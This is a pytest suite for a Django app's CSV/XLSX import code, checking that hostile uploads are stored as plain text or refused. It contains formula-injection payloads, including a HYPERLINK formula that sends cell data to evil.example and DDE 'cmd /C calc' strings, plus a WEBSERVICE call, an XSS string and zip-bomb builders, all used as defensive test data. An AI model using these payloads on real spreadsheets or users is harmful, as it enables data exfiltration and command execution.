"""Hostile import input: formula injection, real formulas, HTML, zip bombs, truncated workbooks, huge rows."""

from __future__ import annotations

import io
import os
import re
import zipfile

import pytest
from django.template import Context, Template

from canhgac.constituency.importing import ImportFailed, reading, run_import
from canhgac.constituency.importing.reading import MAX_CELL_CHARS, MAX_COLUMNS
from canhgac.constituency.models import Asset, Unit
from canhgac.constituency.tests.data.builders import csv_bytes, xlsx_bytes

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]  # messages asserted in English

INJECTIONS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"bấm\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0"]


def refused(kind: str, name: str, content: bytes) -> ImportFailed:
    with pytest.raises(ImportFailed) as caught:
        run_import(kind, name, content)
    assert not Unit.objects.exists() and not Asset.objects.exists()
    return caught.value


@pytest.mark.parametrize("builder", [csv_bytes, xlsx_bytes])
def test_formula_cells_are_stored_as_plain_text(builder):  # type: ignore[no-untyped-def]
    rows = [["code", "name", "notes"], *[[f"U{i}", text, text] for i, text in enumerate(INJECTIONS)]]
    run_import("units", "evil", builder(rows))
    assert sorted(Unit.objects.values_list("name", flat=True)) == sorted(INJECTIONS)


def test_our_own_apostrophe_escape_is_taken_off():  # type: ignore[no-untyped-def]
    rows = [["code", "name", "notes"], ["U1", "'=1+1", "'@x"], ["U2", "'plain", "''-both"], ["U3", "'\tTAB", "x"]]
    run_import("units", "units.csv", csv_bytes(rows))
    stored = {code: (name, notes) for code, name, notes in Unit.objects.values_list("code", "name", "notes")}
    assert stored == {"U1": ("=1+1", "@x"), "U2": ("'plain", "'-both"), "U3": ("\tTAB", "x")}


def test_a_real_xlsx_formula_is_refused_naming_the_cell():  # type: ignore[no-untyped-def]
    content = xlsx_bytes([["code", "name"], ["U1", "Đơn vị"], ["U2", "=WEBSERVICE(\"http://evil.example\")"]],
                         formulas=True)
    error = refused("units", "units.xlsx", content).errors[0]
    assert (error.row, error.column) == (3, "B3") and "formula" in error.message


def test_html_in_names_is_stored_literally_and_escaped_when_shown():  # type: ignore[no-untyped-def]
    html = "<script>alert('xss')</script><img src=x onerror=alert(1)>"
    run_import("units", "units.csv", csv_bytes([["code", "name"], ["U1", html]]))
    unit = Unit.objects.get(code="U1")
    assert unit.name == html
    shown = Template("{{ unit.name }}").render(Context({"unit": unit}))
    assert "<script>" not in shown and "&lt;script&gt;" in shown


def zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_an_xlsx_zip_bomb_is_refused_before_it_is_inflated():  # type: ignore[no-untyped-def]
    good = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["code", "name"], ["U1", "x"]])))
    members = {name: good.read(name) for name in good.namelist()}
    members["xl/worksheets/sheet1.xml"] = b"<" + b" " * (120 * 1024 * 1024)  # 120 MB of spaces: ~120 KB zipped
    content = zipped(members)
    assert len(content) < 1024 * 1024
    assert "zip bomb" in refused("units", "units.xlsx", content).errors[0].message


def test_members_inflating_a_thousandfold_are_refused():  # type: ignore[no-untyped-def]
    members = {"xl/workbook.xml": b"<workbook/>", **{f"xl/m{i}.xml": bytes(20 * 1024 * 1024) for i in range(3)}}
    assert "zip bomb" in refused("units", "units.xlsx", zipped(members)).errors[0].message


def test_members_adding_up_past_the_inflated_limit_are_refused(monkeypatch):  # type: ignore[no-untyped-def]
    monkeypatch.setattr(reading, "MAX_XLSX_INFLATED_BYTES", 4 * 1024 * 1024)
    members = {"xl/workbook.xml": b"<workbook/>", **{f"xl/m{i}.bin": os.urandom(1024 * 1024) for i in range(5)}}
    assert "zip bomb" in refused("units", "units.xlsx", zipped(members)).errors[0].message


@pytest.mark.parametrize("cut", [0.3, 0.7, 0.95])
def test_a_truncated_xlsx_is_refused_clearly(cut):  # type: ignore[no-untyped-def]
    content = xlsx_bytes([["code", "name"], *[[f"U{i}", f"Đơn vị {i}"] for i in range(200)]])
    message = refused("units", "units.xlsx", content[: int(len(content) * cut)]).errors[0].message
    assert "damaged or truncated" in message


def test_a_zip_that_is_not_a_workbook_is_refused():  # type: ignore[no-untyped-def]
    assert "not an XLSX" in refused("units", "units.xlsx", zipped({"word/document.xml": b"<w/>"})).errors[0].message


@pytest.mark.parametrize("builder", [csv_bytes, xlsx_bytes])
def test_a_row_with_too_many_columns_is_refused(builder):  # type: ignore[no-untyped-def]
    content = builder([["code", "name"], ["U1", "x", *["y"] * (MAX_COLUMNS + 5)]])
    error = refused("units", "wide", content).errors[0]
    assert error.row == 2 and "columns" in error.message


@pytest.mark.parametrize("builder", [csv_bytes, xlsx_bytes])
def test_a_very_long_cell_is_refused(builder):  # type: ignore[no-untyped-def]
    error = refused("units", "long", builder([["code", "name"], ["U1", "x" * (MAX_CELL_CHARS + 1)]])).errors[0]
    assert error.row == 2 and "characters" in error.message


def test_a_cell_longer_than_the_csv_parser_allows_is_refused():  # type: ignore[no-untyped-def]
    content = b"code,name\r\nU1,\"" + b"x" * 200_000 + b"\"\r\n"
    assert refused("units", "units.csv", content).errors[0].row == 2


def test_a_forged_sheet_dimension_does_not_pad_rows_to_16384_columns():  # type: ignore[no-untyped-def]
    good = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["code", "name"], ["U1", "Đơn vị"]])))
    members = {name: good.read(name) for name in good.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"]
    members["xl/worksheets/sheet1.xml"] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', sheet)
    assert members["xl/worksheets/sheet1.xml"] != sheet
    assert run_import("units", "units.xlsx", zipped(members)).created == 1


def test_an_unclosed_quote_does_not_swallow_the_file_silently():  # type: ignore[no-untyped-def]
    content = b"code,name\r\nU1,\"Don vi\r\nU2,Khac\r\n"
    with pytest.raises(ImportFailed):
        run_import("units", "units.csv", content + b"x" * 200_000)
    assert not Unit.objects.exists()
